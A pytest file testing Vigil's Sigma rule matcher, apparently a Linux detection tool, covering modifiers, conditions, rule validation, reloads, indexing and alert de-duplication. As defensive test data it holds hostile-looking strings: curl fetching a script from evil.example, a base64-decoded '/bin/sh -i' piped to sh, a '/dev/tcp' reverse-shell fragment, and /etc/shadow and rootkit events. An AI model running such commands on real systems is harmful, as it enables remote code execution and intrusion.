"""The Sigma matcher against hand-made events: every modifier and condition
form, verdicts for fields Vigil cannot know, malformed rules, the literal
index, and alert de-duplication.  Pure unit tests: no kernel involved."""

from __future__ import annotations

import base64
import textwrap

import pytest

from vigil.detect import ruleset
from vigil.detect.alerts import AlertBook
from vigil.detect.fields import Context
from vigil.detect.stage import Detector

_N = [0]


def rule_yaml(detection: str, *, category="process_creation", product="linux", extra="") -> str:
    _N[0] += 1
    return (
        textwrap.dedent(
            f"""\
        title: test rule {_N[0]}
        id: 00000000-0000-4000-8000-{_N[0]:012d}
        status: test
        level: high
        tags: [attack.execution]
        logsource:
            product: {product}
            category: {category}
        """
        )
        + "detection:\n"
        + textwrap.indent(textwrap.dedent(detection), "    ")
        + "\n"
        + extra
    )


def load(tmp_path, *rules: str):
    for i, text in enumerate(rules):
        (tmp_path / f"r{i}.yml").write_text(text)
    return ruleset.load([str(tmp_path)])


def exe_event(args, exe=None, **kw) -> dict:
    args = [a.encode() if isinstance(a, str) else a for a in args]
    ev = {
        "kind": "exec",
        "ret": 0,
        "ts_ns": 1_000_000_000,
        "pid": 100,
        "tid": 100,
        "ppid": 1,
        "uid": 0,
        "gid": 0,
        "euid": 0,
        "egid": 0,
        "auid": 1000,
        "comm": b"x",
        "flags": [],
        "filename": args[0] if args else b"",
        "exe": (exe or (args[0] if args else "")).encode() if isinstance(exe or "", str) else exe,
        "args": args,
        "ancestors": [{"pid": 1, "comm": "bash", "exe": "/usr/bin/bash"}],
    }
    ev.update(kw)
    return ev


def fires(tmp_path, detection: str, ev: dict, **kw) -> bool:
    rs, verdicts = load(tmp_path, rule_yaml(detection, **kw))
    assert [v.verdict for v in verdicts] == ["can-fire"], verdicts[0].reasons
    return bool(rs.match(ev, Context()))


CURL = exe_event(["curl", "-s", "http://evil.example/x.sh"], exe="/usr/bin/curl")


@pytest.mark.parametrize(
    "detection, expected",
    [
        ("sel:\n    Image: /usr/bin/curl\ncondition: sel", True),
        ("sel:\n    Image: /USR/BIN/CURL\ncondition: sel", True),  # case-insensitive
        ("sel:\n    Image: /usr/bin/cur\ncondition: sel", False),  # exact, not prefix
        ("sel:\n    Image|endswith: /curl\ncondition: sel", True),
        ("sel:\n    Image|endswith: url\ncondition: sel", True),
        ("sel:\n    Image|startswith: /usr/\ncondition: sel", True),
        ("sel:\n    Image|startswith: /bin/\ncondition: sel", False),
        ("sel:\n    CommandLine|contains: evil.example\ncondition: sel", True),
        ("sel:\n    CommandLine|contains: good.example\ncondition: sel", False),
        ("sel:\n    CommandLine|contains|all: [' -s', 'x.sh']\ncondition: sel", True),
        ("sel:\n    CommandLine|contains|all: [' -s', 'y.sh']\ncondition: sel", False),
        ("sel:\n    CommandLine|contains: [nothing, 'x.sh']\ncondition: sel", True),
        ("sel:\n    CommandLine: 'curl * http://*/x.sh'\ncondition: sel", True),
        ("sel:\n    CommandLine: 'curl -? *'\ncondition: sel", True),
        ("sel:\n    CommandLine: 'curl -?? *'\ncondition: sel", False),
        ("sel:\n    CommandLine|re: '-s\\s+https?://'\ncondition: sel", True),
        ("sel:\n    CommandLine|re: '^CURL'\ncondition: sel", False),  # re is case-sensitive
        ("sel:\n    CommandLine|re|i: '^CURL'\ncondition: sel", True),
        ("sel:\n    CommandLine|cased: 'curl -s'\ncondition: sel", False),
        ("sel:\n    CommandLine|cased|contains: 'curl -s'\ncondition: sel", True),
        ("sel:\n    CommandLine|cased|contains: 'CURL -s'\ncondition: sel", False),
        ("sel:\n    ProcessId|gt: 99\ncondition: sel", True),
        ("sel:\n    ProcessId|gte: 100\ncondition: sel", True),
        ("sel:\n    ProcessId|lt: 100\ncondition: sel", False),
        ("sel:\n    ProcessId|lte: 100\ncondition: sel", True),
        ("sel:\n    ProcessId: 100\ncondition: sel", True),
        ("sel:\n    LogonId: 1000\ncondition: sel", True),
        ("sel:\n    User: root\ncondition: sel", True),
        ("sel:\n    ParentImage|endswith: /bash\ncondition: sel", True),
        ("sel:\n    ParentCommandLine|exists: true\ncondition: sel", False),  # no table
        ("sel:\n    CommandLine|exists: true\ncondition: sel", True),
        ("sel:\n    CommandLine|exists: false\ncondition: sel", False),
        ("sel:\n    ParentCommandLine: null\ncondition: sel", True),
        ("sel:\n    CommandLine|windash|contains: ' /s '\ncondition: sel", True),
        ("keywords:\n    - 'evil.example'\ncondition: keywords", True),
        ("keywords:\n    - 'nowhere'\ncondition: keywords", False),
        # list of maps: either map
        ("sel:\n    - Image: /bin/nope\n    - CommandLine|endswith: x.sh\ncondition: sel", True),
    ],
)
def test_modifiers(tmp_path, detection, expected):
    assert fires(tmp_path, detection, CURL) is expected


def test_base64_modifiers(tmp_path):
    payload = base64.b64encode(b"prefix /bin/sh -i").decode()
    ev = exe_event(["bash", "-c", f"echo {payload} | base64 -d | sh"], exe="/usr/bin/bash")
    # base64offset finds the text at any of the 3 byte offsets
    assert fires(
        tmp_path, "sel:\n    CommandLine|base64offset|contains: '/bin/sh -i'\ncondition: sel", ev
    )
    assert not fires(
        tmp_path, "sel:\n    CommandLine|base64offset|contains: '/bin/zsh'\ncondition: sel", ev
    )
    whole = base64.b64encode(b"prefix /bin/sh -i").decode()
    assert whole in ev["args"][2].decode()
    assert fires(
        tmp_path, "sel:\n    CommandLine|base64|contains: 'prefix /bin/sh -i'\ncondition: sel", ev
    )


def test_network_fields_and_cidr(tmp_path):
    conn = {
        "kind": "connect",
        "ts_ns": 1,
        "pid": 7,
        "ppid": 1,
        "uid": 0,
        "flags": [],
        "comm": b"bash",
        "exe": b"/usr/bin/bash",
        "laddr": "10.0.0.5",
        "lport": 40000,
        "raddr": "203.0.113.9",
        "rport": 4444,
        "ancestors": [],
    }
    acc = dict(conn, kind="accept", laddr="10.0.0.5", lport=22, raddr="198.51.100.7", rport=5555)
    nc = dict(category="network_connection")
    det = "sel:\n    DestinationIp|cidr: 203.0.113.0/24\n    DestinationPort: 4444\n    Initiated: 'true'\ncondition: sel"
    assert fires(tmp_path, det, conn, **nc)
    assert not fires(tmp_path, det, acc, **nc)
    # accept: the peer initiated, so it is the source; we are the destination
    det = "sel:\n    SourceIp|cidr: 198.51.100.0/24\n    DestinationPort: 22\n    Initiated: 'false'\ncondition: sel"
    assert fires(tmp_path, det, acc, **nc)
    det = "sel:\n    DestinationIp|cidr: '2001:db8::/32'\ncondition: sel"
    assert not fires(tmp_path, det, conn, **nc)  # v4 address, v6 network: no match, no error
    # an exec never meets a network_connection rule
    assert not fires(tmp_path, "sel:\n    Image|endswith: /curl\ncondition: sel", CURL, **nc)


@pytest.mark.parametrize(
    "condition, expected",
    [
        ("a and b", True),
        ("a and c", False),
        ("a or c", True),
        ("not c", True),
        ("not a", False),
        ("a and not c", True),
        ("(a or c) and (b or c)", True),
        ("(a or c) and not (b and a)", False),
        ("1 of sel_*", True),
        ("all of sel_*", False),
        ("all of sel_i*", True),
        ("any of sel_*", True),
        ("1 of them", True),
        ("all of them", False),
        ("not 1 of sel_n*", True),
        ("a and 1 of sel_* and not c", True),
    ],
)
def test_conditions(tmp_path, condition, expected):
    det = f"""\
    a:
        Image|endswith: /curl
    b:
        CommandLine|contains: x.sh
    c:
        CommandLine|contains: nothing-here
    sel_img:
        Image|contains: bin
    sel_no:
        Image|contains: sbin
    condition: {condition}
    """
    assert fires(tmp_path, det, CURL) is expected


def test_unknown_fields_give_honest_verdicts(tmp_path):
    rs, verdicts = load(
        tmp_path,
        rule_yaml("sel:\n    CurrentDirectory: /tmp\n    Image|endswith: /sh\ncondition: sel"),
        rule_yaml(
            "sel:\n    Image|endswith: /curl\nfilter:\n    CurrentDirectory: /opt\ncondition: sel and not filter"
        ),
        rule_yaml(
            "sel:\n    Image|endswith: /curl\nsel2:\n    OriginalFileName: curl.exe\ncondition: sel or sel2"
        ),
        rule_yaml("filter:\n    CurrentDirectory: /opt\ncondition: not filter"),
        rule_yaml("sel:\n    Image|wide|contains: cmd\ncondition: sel"),
        rule_yaml("sel:\n    TargetObject: /x\ncondition: sel", category="registry_event"),
    )
    got = {v.title: (v.verdict, v.reasons) for v in verdicts}
    v = [got[f"test rule {i}"] for i in range(_N[0] - 5, _N[0] + 1)]
    assert v[0][0] == "never-fires" and "CurrentDirectory" in v[0][1][0]
    assert v[1][0] == "degraded" and "CurrentDirectory" in v[1][1][0]
    assert v[2][0] == "degraded" and "OriginalFileName" in v[2][1][0]
    assert v[3][0] == "never-fires" and "every event" in v[3][1][0]
    assert v[4][0] == "never-fires" and "wide" in v[4][1][0]
    assert v[5][0] == "never-fires" and "registry_event" in v[5][1][0]
    # the degraded filter rule runs without its filter; the other branch still fires
    assert [r.title for r, _ in rs.match(CURL, Context())] == [
        f"test rule {_N[0] - 4}",
        f"test rule {_N[0] - 3}",
    ]


def test_malformed_rules_name_file_id_and_problem(tmp_path):
    (tmp_path / "good.yml").write_text(rule_yaml("sel:\n    Image|endswith: /curl\ncondition: sel"))
    (tmp_path / "yaml.yml").write_text("title: [unclosed\n")
    (tmp_path / "cond.yml").write_text(rule_yaml("sel:\n    Image: x\ncondition: sel and nosuch"))
    (tmp_path / "mod.yml").write_text(rule_yaml("sel:\n    Image|nosuchmod: x\ncondition: sel"))
    (tmp_path / "zz_dup.yml").write_text(
        rule_yaml("sel:\n    Image: y\ncondition: sel").replace(
            f"{_N[0]:012d}", f"{_N[0] - 3:012d}"
        )
    )
    rs, verdicts = ruleset.load([str(tmp_path)])
    bad = {v.path.rsplit("/", 1)[1]: v for v in verdicts if v.verdict == "invalid"}
    assert set(bad) == {"yaml.yml", "cond.yml", "mod.yml", "zz_dup.yml"}
    assert "nosuch" in bad["cond.yml"].reasons[0] and bad["cond.yml"].id
    assert "nosuchmod" in bad["mod.yml"].reasons[0]
    assert "duplicate" in bad["zz_dup.yml"].reasons[0]
    assert len(rs) == 1 and rs.match(CURL, Context())  # the good rule runs on
    # --strict refuses; the default warns and keeps the good ones
    from vigil.errors import ConfigError

    with pytest.raises(ConfigError, match="invalid rule"):
        Detector([str(tmp_path)], strict=True)
    assert len(Detector([str(tmp_path)]).rules) == 1


def test_broken_reload_keeps_old_rules(tmp_path):
    path = tmp_path / "r.yml"
    path.write_text(rule_yaml("sel:\n    Image|endswith: /curl\ncondition: sel"))
    det = Detector([str(path)])
    path.write_text("title: [broken\n")
    assert det.reload() is False
    assert len(det.rules) == 1 and det.run([dict(CURL)])
    path.write_text(rule_yaml("sel:\n    Image|endswith: /wget\ncondition: sel"))
    det.request_reload()
    assert det.run([dict(CURL)]) == []  # reloaded at the batch: the new rule does not match
    assert len(det.rules) == 1


def test_a_pipeline_that_asks_what_rules_read_reloads_only_when_it_asks(tmp_path):
    """`vigil monitor` decodes only the kinds its stages read, asked before
    each read: a SIGHUP between that and the detection stage must not give
    the new rules a batch whose kinds (theirs, not the old rules') were left
    undecoded.  The reload waits for the next read."""
    path = tmp_path / "r.yml"
    path.write_text(rule_yaml("sel:\n    Image|endswith: /curl\ncondition: sel"))
    det = Detector([str(path)])
    assert "exec" in det.reads  # the pipeline asked: this batch is read with the old rules
    path.write_text(rule_yaml("sel:\n    Image|endswith: /wget\ncondition: sel"))
    det.request_reload()  # SIGHUP, after the read
    assert det.run([dict(CURL)])  # this batch: the old rules still
    det.reads  # noqa: B018 - the next read: reloaded now
    assert det.run([dict(CURL)]) == []


def test_index_evaluates_only_rules_whose_literals_are_present(tmp_path):
    rules = [
        rule_yaml(
            f"sel:\n    Image|endswith: /tool{i}\n    CommandLine|contains: ' -x'\ncondition: sel"
        )
        for i in range(200)
    ]
    rules.append(rule_yaml("sel:\n    CommandLine|contains: 'needle{}'\ncondition: sel"))
    rs, _ = load(tmp_path, *rules)
    ctx = Context()
    ev = exe_event(["/opt/tool7", "-x"], exe="/opt/tool7")
    rs.considered = 0
    assert [r.title for r, _ in rs.match(ev, ctx)] == [f"test rule {_N[0] - 200 + 7}"]
    assert rs.considered == 1
    rs.considered = 0
    assert rs.match(exe_event(["/usr/bin/true"], exe="/usr/bin/true"), ctx) == []
    assert rs.considered == 0
    rs.considered = 0
    assert len(rs.match(exe_event(["/bin/x", "NEEDLE{}"], exe="/bin/x"), ctx)) == 1
    assert rs.considered == 1


def test_dedup_counts_exact(tmp_path):
    path = tmp_path / "r.yml"
    path.write_text(rule_yaml("sel:\n    Image|endswith: /curl\ncondition: sel"))
    det = Detector([str(path)], window=10.0)
    base = 1_000_000_000_000
    evs = [exe_event(["curl"], exe="/usr/bin/curl", ts_ns=base + i * 10**9) for i in range(7)]
    evs.append(exe_event(["curl"], exe="/usr/bin/curl", ts_ns=base + 3 * 10**9, pid=200))
    # 11 s after the first: a new alert for pid 100 (the window is 10 s)
    evs.append(exe_event(["curl"], exe="/usr/bin/curl", ts_ns=base + 11 * 10**9))
    alerts = {}
    for ev in evs:  # one event per batch, as a slow trickle would come
        for a in det.run([ev]):
            alerts[a.id] = a.data
    got = sorted(
        (d["event"]["pid"], d["count"], d["first_seen_ns"], d["last_seen_ns"])
        for d in alerts.values()
    )
    assert got == [
        (100, 1, base + 11 * 10**9, base + 11 * 10**9),
        (100, 7, base, base + 6 * 10**9),
        (200, 1, base + 3 * 10**9, base + 3 * 10**9),
    ]
    assert sum(d["count"] for d in alerts.values()) == len(evs)  # nothing dropped


def test_dedup_key_fields(tmp_path):
    path = tmp_path / "r.yml"
    path.write_text(
        rule_yaml(
            "sel:\n    Image|endswith: /curl\ncondition: sel",
            extra="vigil_dedup:\n    - CommandLine\n",
        )
    )
    det = Detector([str(path)])
    evs = [
        exe_event(["curl", "a"], exe="/usr/bin/curl", pid=1 + i % 3, ts_ns=10**9 + i)
        for i in range(6)
    ]
    evs.append(exe_event(["curl", "b"], exe="/usr/bin/curl", ts_ns=10**9 + 9))
    out = {a.id: a.data for a in det.run(evs)}
    assert sorted((d["key"], d["count"]) for d in out.values()) == [
        (["curl a"], 6),
        (["curl b"], 1),
    ]


def test_alert_carries_rule_match_event_and_loss(tmp_path):
    path = tmp_path / "r.yml"
    path.write_text(
        rule_yaml("sel:\n    Image|endswith: /curl\n    CommandLine|contains: x.sh\ncondition: sel")
    )
    det = Detector([str(path)], host="h1")
    det.note_stats({"exec": {"lost": 0}})
    det.note_stats({"exec": {"lost": 3}})
    (a,) = det.run([dict(CURL, ts_ns=__import__("time").time_ns())])
    d = a.data
    assert d["kind"] == "alert" and d["source"] == "rule" and d["host"] == "h1"
    assert d["rule"]["level"] == "high" and d["rule"]["tags"] == ["attack.execution"]
    assert d["matched"] == {
        "sel": {"Image": "/usr/bin/curl", "CommandLine": "curl -s http://evil.example/x.sh"}
    }
    assert d["event"]["args"] == ["curl", "-s", "http://evil.example/x.sh"]
    assert d["event"]["ancestors"][0]["exe"] == "/usr/bin/bash"
    assert d["sensor_losing"] == ["exec"]
    assert d["detected_ns"] >= d["event_ts_ns"] - 10**9


def test_alertbook_window_is_event_time():
    book = AlertBook(window=1.0, host="h")
    ev = {"ts_ns": 5 * 10**9, "pid": 1, "flags": []}
    a = book.raise_(source="rule", name="r", key=(1,), ev=ev, header={}, matched={}, losing=[])
    b = book.raise_(
        source="rule",
        name="r",
        key=(1,),
        ev=dict(ev, ts_ns=6 * 10**9),
        header={},
        matched={},
        losing=[],
    )
    c = book.raise_(
        source="rule",
        name="r",
        key=(1,),
        ev=dict(ev, ts_ns=6 * 10**9 + 1),
        header={},
        matched={},
        losing=[],
    )
    assert a is b and c is not a and a.data["count"] == 2 and c.data["count"] == 1


@pytest.mark.parametrize(
    "pattern, literals",
    [
        (r"-(W|R)\s?(\s|\"|')([0-9a-fA-F]{2}\s?){2,20}", ["-R", "-W"]),
        (r"/(python|perl)[0-9.]*$", ["/perl", "/python"]),
        (r"^curl\s", ["curl"]),
        (r"foo(bar)?baz", ["foo"]),
        (r"x*yz", ["yz"]),
        (r"a.b", None),  # nothing of two characters is required
        (r"(?:^|\s)(-i|--interactive)\s", ["--interactive", "-i"]),
        (r"(ab|cd(e|f))x", ["abx", "cdex", "cdfx"]),
    ],
)
def test_regex_required_literals(pattern, literals):
    from vigil.detect.compile import regex_literals

    assert regex_literals(pattern) == literals


def test_regex_rules_are_indexed_and_still_fire(tmp_path):
    rs, _ = load(
        tmp_path,
        rule_yaml("sel:\n    CommandLine|re: '-(W|R)\\s?([0-9a-f]{2}\\s?){2,20}'\ncondition: sel"),
    )
    (rule,) = rs.rules
    assert rule.atoms == {("sub", "CommandLine", "-w"), ("sub", "CommandLine", "-r")}
    ctx = Context()
    assert rs.match(exe_event(["pnscan", "-W", "0a 0b 0c"], exe="/usr/bin/pnscan"), ctx)
    rs.evaluated = 0
    assert not rs.match(exe_event(["ls", "-l"], exe="/usr/bin/ls"), ctx)
    assert rs.evaluated == 0  # no -w/-r in the command line: never evaluated


def test_deleted_executable_still_matches_its_path(tmp_path):
    ev = exe_event(["nc", "-l"], exe="/tmp/nc (deleted)")
    assert fires(tmp_path, "sel:\n    Image|endswith: /nc\ncondition: sel", ev)
    mem = exe_event(["x"], exe="/memfd:payload (deleted)")
    assert fires(tmp_path, "sel:\n    Image|startswith: '/memfd:'\ncondition: sel", mem)


def test_crafted_command_line_cannot_stall_a_regex(tmp_path):
    """(a+)+$ backtracks exponentially in Python's re; rules run on RE2."""
    import time

    rs, _ = load(tmp_path, rule_yaml("sel:\n    CommandLine|re: '(a+)+$'\ncondition: sel"))
    ev = exe_event(["x", "a" * 20000 + "!"], exe="/usr/bin/x")
    t = time.process_time()
    assert rs.match(ev, Context()) == []
    assert time.process_time() - t < 0.5


def test_bytes_that_are_not_utf8_match_in_escaped_form(tmp_path):
    ev = exe_event([b"/bin/x", b"\xff\xfe/dev/tcp/1.2.3.4/80"], exe="/usr/bin/x")
    assert fires(tmp_path, "sel:\n    CommandLine|contains: '/dev/tcp/'\ncondition: sel", ev)
    assert fires(tmp_path, "sel:\n    CommandLine|contains: '\\xff\\xfe/dev'\ncondition: sel", ev)


# -- the later sensors' own categories ---------------------------------------------------
def _later_event(kind: str, **fields) -> dict:
    ev = exe_event(["/usr/bin/x"], exe="/usr/bin/x")
    ev.update(kind=kind, **fields)
    return ev


@pytest.mark.parametrize(
    "category, detection, hit, miss",
    [
        (
            "signal",
            "sel:\n  Signal: SIGKILL\n  TargetImage|endswith: /falco\ncondition: sel",
            _later_event("kill", sig_name="SIGKILL", target_pid=7, target_exe=b"/usr/bin/falco"),
            _later_event("kill", sig_name="SIGTERM", target_pid=7, target_exe=b"/usr/bin/falco"),
        ),
        (
            "file_access",
            "sel:\n  TargetFilename: /etc/shadow\n  Operation: open\ncondition: sel",
            _later_event("open", path=b"/etc/shadow"),
            _later_event("file", op="unlink", path=b"/etc/shadow"),
        ),
        (
            "kernel_module",
            "sel:\n  Operation: finit_module\ncondition: sel",
            _later_event("module_load", op="finit_module", name=b"rootkit"),
            _later_event("module_load", op="delete_module", name=b"rootkit"),
        ),
        (
            "mount",
            "sel:\n  FileSystemType: proc\n  MountTarget|startswith: /tmp/\ncondition: sel",
            _later_event("mount", op="mount", fstype=b"proc", target=b"/tmp/p", source=b"none"),
            _later_event("mount", op="mount", fstype=b"tmpfs", target=b"/tmp/p", source=b"none"),
        ),
        (
            "identity_change",
            "sel:\n  Kind: setuid\n  new_uid: 0\ncondition: sel",
            _later_event("setuid", new_uid=0),
            _later_event("setuid", new_uid=1000),
        ),
    ],
)
def test_later_sensors_have_their_own_categories(tmp_path, category, detection, hit, miss):
    """Every sensor's events can be matched: its category's named fields and
    its raw fields (docs/detection.md)."""
    assert fires(tmp_path, detection, hit, category=category, product="vigil")
    assert not fires(tmp_path, detection, miss, category=category, product="vigil")
